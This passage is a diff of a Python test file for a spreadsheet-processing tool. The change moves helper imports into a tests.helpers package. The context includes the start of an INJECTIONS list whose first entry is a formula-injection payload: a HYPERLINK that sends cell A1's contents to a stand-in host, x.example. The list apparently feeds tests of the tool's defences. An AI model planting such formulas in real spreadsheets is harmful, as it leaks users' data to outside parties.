@@ -24,8 +24,8 @@ from nianbao.operations.annotate import annotate, place_values
 from nianbao.operations.check import CheckOptions, check_file
 from nianbao.operations.generate import MANIFEST_NAME, generate
 from nianbao.operations.merge import STATUS_SHEET, merge
-from tests.figures import consistent_inputs
-from tests.workbooks import filled_workbook, write_roster
+from tests.helpers.figures import consistent_inputs
+from tests.helpers.workbooks import filled_workbook, write_roster
 
 INJECTIONS = [
     '=HYPERLINK("http://x.example/?q="&A1,"点此")',
